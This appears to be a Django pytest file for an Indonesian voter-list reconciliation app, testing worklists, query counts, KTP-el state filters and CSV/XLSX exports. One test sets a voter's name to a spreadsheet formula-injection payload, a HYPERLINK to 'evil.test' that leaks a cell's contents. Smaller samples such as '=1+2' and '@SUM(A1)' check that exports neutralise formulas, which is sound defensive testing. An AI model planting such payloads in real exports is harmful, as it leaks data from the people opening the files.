"""The worklist's people and exports: queries per page, the KTP-el state now beside the state
at the reconciliation, the export's content, cells no spreadsheet runs as a formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from rekam.lib.tabular import REJECTED, WARNING, ReportWriter, RowIssue
from rekam.regions.models import Region
from rekam.residents.services import record_move
from rekam.residents.states import KtpState
from rekam.voters.importer import dpt_import
from rekam.voters.models import DptImport, VoterClass
from rekam.voters.reconcile import reconcile
from rekam.voters.worklists import EXPORT_HEADER
from tests.conftest import PASSWORD
from tests.test_voters_support import (
    HAJIMENA,
    KEDATON,
    make_election,
    nik_for,
    resident,
    voter_row,
    write_dpt,
)

HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&B2,"Klik")'


def login(client, user):
    assert client.login(username=user.username, password=PASSWORD)
    return client


def other_village() -> str:
    """A second village of Kedaton's kecamatan."""
    village = Region.objects.filter(parent_id="18.71.01").exclude(code=KEDATON).first()
    assert village is not None
    return village.code


def matched_voters(village: str, count: int, first_serial: int) -> list[list[str]]:
    """``count`` voters of ``village``, each a resident not recorded yet."""
    rows = []
    for n in range(count):
        birth = date(1980, 1, 1 + n)
        nik = nik_for(village, birth, "L", first_serial + n)
        resident(nik, village=village, birth_date=birth, sex="L", ktp_state=KtpState.BELUM_REKAM)
        name = f"Pemilih {n:02}"
        rows.append(voter_row(nik, name=name, birth=f"{birth:%d-%m-%Y}", sex="L", village=village))
    return rows


def test_a_page_of_people_costs_the_same_queries_for_3_and_for_20(
    client, lampung, personas, tmp_path
):
    election = make_election()
    second = other_village()
    rows = matched_voters(KEDATON, 3, 1) + matched_voters(second, 20, 100)
    dpt_import(path=write_dpt(tmp_path / "dpt.csv", rows), election=election)
    reconcile(election=election)
    login(client, personas.bdl_operator)
    url = reverse("voters_worklist", args=[election.slug])
    client.get(url, {"kode": KEDATON})  # the session and caches settle on the first request
    counts = {}
    for village, voters in ((KEDATON, 3), (second, 20)):
        with CaptureQueriesContext(connection) as queries:
            response = client.get(url, {"kode": village})
        assert len(response.context["page"]) == voters
        # Each voter links to their resident page (the resident's NIK read in the same query).
        assert response.content.decode().count('href="/penduduk/') >= voters
        counts[voters] = len(queries)
    assert counts[3] == counts[20]


@pytest.fixture
def moved(lampung, personas, tmp_path):
    """Two voters not recorded at the reconciliation; one of them has recorded since."""
    election = make_election()
    rows = matched_voters(KEDATON, 2, 1)
    dpt_import(path=write_dpt(tmp_path / "dpt.csv", rows), election=election)
    reconcile(election=election)
    from rekam.residents.models import Resident

    recorded = Resident.objects.get(nik=rows[0][2])
    record_move(
        resident=recorded, to_state=KtpState.BIO_CAPTURED, acting_user=personas.bdl_operator
    )
    return election, recorded


def test_the_worklist_shows_the_state_now_and_the_state_at_the_reconciliation(
    client, moved, personas
):
    election, recorded = moved
    login(client, personas.bdl_operator)
    url = reverse("voters_worklist", args=[election.slug])
    response = client.get(url, {"kode": KEDATON, "kelas": VoterClass.NOT_RECORDED})
    page = {v.nik: v for v in response.context["page"]}
    assert len(page) == 2  # the class is the one at the reconciliation
    assert page[recorded.nik].state_now == KtpState.BIO_CAPTURED
    assert page[recorded.nik].verdict.ktp_state == KtpState.BELUM_REKAM
    text = response.content.decode()
    assert text.count('data-testid="state-then"') == 1
    assert str(KtpState.BIO_CAPTURED.label) in text
    run = response.context["reconciled"]
    assert run is not None and 'data-testid="reconciled-at"' in text
    # Only those still not recorded now: the one who recorded since is left out.
    still = client.get(url, {"kode": KEDATON, "kelas": VoterClass.NOT_RECORDED, "masih": "1"})
    assert [v.nik for v in still.context["page"]] == [nik for nik in page if nik != recorded.nik]
    export = client.get(
        reverse("voters_export_csv", args=[election.slug]),
        {"kode": KEDATON, "kelas": VoterClass.NOT_RECORDED, "masih": "1"},
    )
    lines = b"".join(export.streaming_content).decode("utf-8-sig").strip().splitlines()
    assert len(lines) == 2 and recorded.nik not in lines[1]
    # A filter that leaves nobody says so, instead of leaving the page blank below it.
    none_left = client.get(url, {"kode": KEDATON, "kelas": VoterClass.CARD_PRINTED, "masih": "1"})
    assert not none_left.context["page"].object_list
    assert "Tidak ada pemilih yang cocok." in none_left.content.decode()


def read_csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_the_exports_hold_the_state_at_the_reconciliation_and_now(client, moved, personas):
    election, recorded = moved
    login(client, personas.bdl_operator)
    params = {"kode": KEDATON}
    rows = read_csv(client.get(reverse("voters_export_csv", args=[election.slug]), params))
    assert rows[0] == EXPORT_HEADER
    by_nik = {row[0]: dict(zip(EXPORT_HEADER, row, strict=True)) for row in rows[1:]}
    assert len(by_nik) == 2
    row = by_nik[recorded.nik]
    assert row == {
        "NIK": recorded.nik,
        "NKK": "1871011203150001",
        "NAMA": "Pemilih 00",
        "TEMPAT LAHIR": "Bandar Lampung",
        "TANGGAL LAHIR": "01-01-1980",
        "JK": "L",
        "KAWIN": "S",
        "ALAMAT": "Jl. Teuku Umar 3",
        "RT": "001",
        "RW": "002",
        "TPS": "001",
        "KODE DESA": KEDATON,
        "DESA/KELURAHAN": Region.objects.get(code=KEDATON).name,
        "KECAMATAN": "Kedaton",
        "KABUPATEN/KOTA": Region.objects.get(code="18.71").name,
        "KELAS SAAT PENCOCOKAN": str(VoterClass.NOT_RECORDED.label),
        "STATUS KTP-EL SAAT PENCOCOKAN": str(KtpState.BELUM_REKAM.label),
        "STATUS KTP-EL SEKARANG": str(KtpState.BIO_CAPTURED.label),
        "PEMILIH PEMULA": "",
        "SUKET BERLAKU S.D.": "",
    }
    xlsx = client.get(reverse("voters_export_xlsx", args=[election.slug]), params)
    assert xlsx["Content-Disposition"].startswith("attachment;")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    assert sheet is not None
    cells = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert list(cells[0]) == EXPORT_HEADER
    sheet_row = next(r for r in cells[1:] if r[0] == recorded.nik)
    assert [c.strftime("%d-%m-%Y") if hasattr(c, "strftime") else (c or "") for c in sheet_row] == [
        row[h] for h in EXPORT_HEADER
    ]


def test_no_export_cell_runs_as_a_formula(client, lampung, personas, tmp_path):
    election = make_election()
    nik = nik_for(KEDATON, date(1990, 5, 17), "P", 5)
    evil = voter_row(nik, name=HYPERLINK, ALAMAT="+62 Jl. Kartini", RT="1")
    result = dpt_import(
        path=write_dpt(tmp_path / "dpt.csv", [evil]),
        election=election,
        report_path=tmp_path / "laporan.csv",  # not a path named by the second, shared
    )
    reconcile(election=election)
    login(client, personas.bdl_operator)
    rows = read_csv(client.get(reverse("voters_export_csv", args=[election.slug]), {}))
    [voter] = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert (voter["NAMA"], voter["ALAMAT"]) == ("'" + HYPERLINK, "'+62 Jl. Kartini")
    assert voter["NIK"] == nik
    # The import's change report lists the name, written as text too.
    with result.changes_path.open(encoding="utf-8-sig", newline="") as f:
        [added] = list(csv.DictReader(f))
    assert (added["perubahan"], added["nama"]) == ("ditambahkan", "'" + HYPERLINK)
    # The XLSX holds the name as it is: a text cell is never a formula.
    xlsx = client.get(reverse("voters_export_xlsx", args=[election.slug]), {})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    assert sheet is not None and sheet["C2"].value == HYPERLINK
    assert sheet["C2"].data_type == "s"


def test_an_invalid_nik_is_written_to_the_row_reports_as_text(lampung, tmp_path):
    election = make_election()
    rows = [voter_row("=1+2", name="Siti")]  # kept as NIK invalid, with a warning
    result = dpt_import(
        path=write_dpt(tmp_path / "dpt.csv", rows),
        election=election,
        report_path=tmp_path / "laporan.csv",
    )
    with result.report_path.open(encoding="utf-8-sig", newline="") as f:
        [issue] = list(csv.DictReader(f))
    assert (issue["jenis"], issue["nik"]) == (WARNING, "'=1+2")
    assert result.issues[0].key == "=1+2"  # the page shows it as read
    # The registry and status imports' report writer.
    path = tmp_path / "report.csv"
    with ReportWriter(path) as report:
        report.write(RowIssue(3, "@SUM(A1)", REJECTED, "-bad"))
    with path.open(encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f))[1] == ["3", "'@SUM(A1)", REJECTED, "'-bad"]


def test_the_import_page_reads_voters_through_the_election_index(
    client, lampung, personas, tmp_path
):
    election = make_election()
    nik = nik_for(KEDATON, date(1990, 5, 17), "P", 5)
    dpt_import(path=write_dpt(tmp_path / "dpt.csv", [voter_row(nik)]), election=election)
    batch = DptImport.objects.get()
    login(client, personas.bdl_operator)
    with CaptureQueriesContext(connection) as queries:
        response = client.get(reverse("voters_import", args=[election.slug, batch.pk]))
    assert response.context["added_count"] == 1
    voters = [q["sql"] for q in queries if 'FROM "voters_voter"' in q["sql"]]
    assert voters and all('"election_id"' in sql for sql in voters)
    if connection.vendor == "sqlite":
        with connection.cursor() as cursor:
            for sql in voters:
                cursor.execute(f"EXPLAIN QUERY PLAN {sql}")
                plan = " ".join(str(row[-1]) for row in cursor.fetchall())
                assert "voter_election_place" in plan, plan


def test_an_election_without_a_list_links_to_the_upload_page(client, lampung, personas, tmp_path):
    election = make_election()
    page = reverse("voters_election", args=[election.slug])
    upload = f'href="{reverse("uploads")}" data-testid="upload-dpt"'
    login(client, personas.bdl_admin)
    assert upload in client.get(page).content.decode()
    client.logout()
    login(client, personas.bdl_operator)  # may not upload: no link
    assert upload not in client.get(page).content.decode()
    client.logout()
    # A list spanning two regencies/cities is not listed to one of them, which has a list all
    # the same: not invited to upload a first one.
    rows = [
        voter_row(nik_for(KEDATON, date(1990, 5, 17), "P", 5)),
        voter_row(nik_for(HAJIMENA, date(1990, 5, 17), "P", 6), village=HAJIMENA),
    ]
    dpt_import(
        path=write_dpt(tmp_path / "dpt.csv", rows),
        election=election,
        report_path=tmp_path / "laporan.csv",
    )
    login(client, personas.bdl_admin)
    text = client.get(page).content.decode()
    assert upload not in text and "import_dpt" not in text


def test_with_still_in_class_the_list_says_its_count_beside_the_reconciliations(
    client, moved, personas
):
    """The counts table is the reconciliation's; the list, narrowed to those still in their
    class, says how many it holds now and how many the table counts."""
    election, _recorded = moved
    login(client, personas.bdl_operator)
    url = reverse("voters_worklist", args=[election.slug])
    params = {"kode": KEDATON, "kelas": VoterClass.NOT_RECORDED, "masih": "1"}
    response = client.get(url, params)
    assert response.context["total"].voters == 2  # the table: at the reconciliation
    assert response.context["page"].paginator.count == 1  # the list: still not recorded now
    assert response.context["reconciled_count"] == 2
    text = response.content.decode()
    assert 'data-testid="counts-then"' in text
    [heading] = re.findall(r'data-testid="still-count">([^<]*)<', text)
    assert re.findall(r"\d+", heading) == ["1", "2"]
    # One TPS: the table's count is the TPS's, not the village's.
    one_tps = client.get(url, {**params, "tps": "001"})
    assert one_tps.context["reconciled_count"] == 2
    other_tps = client.get(url, {**params, "tps": "009"})
    assert other_tps.context["reconciled_count"] == 0
    # Without the filter, neither note.
    plain = client.get(url, {"kode": KEDATON}).content.decode()
    assert 'data-testid="counts-then"' not in plain and 'data-testid="still-count"' not in plain


def attachment_name(response) -> str:
    [name] = re.findall(r'filename="([^"]+)"', response["Content-Disposition"])
    return name


def test_the_export_file_name_holds_every_filter(client, moved, personas):
    election, _recorded = moved
    login(client, personas.bdl_operator)
    csv_url = reverse("voters_export_csv", args=[election.slug])
    xlsx_url = reverse("voters_export_xlsx", args=[election.slug])
    stem = f"dpt-{election.slug}-18.71"
    assert attachment_name(client.get(csv_url, {"kode": "18.71"})) == f"{stem}.csv"
    first_time = client.get(csv_url, {"kode": "18.71", "pemula": "1", "masih": "1"})
    assert attachment_name(first_time) == f"{stem}-pemula-masih.csv"
    everything = client.get(
        xlsx_url,
        {
            "kode": KEDATON,
            "tps": "1",
            "kelas": VoterClass.NOT_RECORDED,
            "pemula": "0",
            "suket": "1",
            "masih": "1",
        },
    )
    assert attachment_name(everything) == (
        f"dpt-{election.slug}-{KEDATON}-tps001-not_recorded-bukan-pemula-suket-habis-masih.xlsx"
    )
    no_expiring = client.get(csv_url, {"suket": "0"})
    assert attachment_name(no_expiring) == f"{stem}-tanpa-suket-habis.csv"


def test_the_xlsx_export_comes_first_and_the_csv_warns_excel_users(client, moved, personas):
    election, _recorded = moved
    login(client, personas.bdl_operator)
    text = client.get(reverse("voters_worklist", args=[election.slug]), {"kode": KEDATON})
    page = text.content.decode()
    xlsx = re.search(r'<a class="([^"]*)" href="[^"]*" data-testid="export-xlsx"', page)
    csv_link = re.search(r'data-testid="export-csv" aria-describedby="csv-note"', page)
    assert xlsx is not None and csv_link is not None
    assert "button-primary" in xlsx.group(1).split()
    assert xlsx.start() < csv_link.start()
    [note] = re.findall(r'<small id="csv-note"[^>]*>([^<]+)</small>', page)
    assert "Excel" in note and "NIK" in note and "XLSX" in note
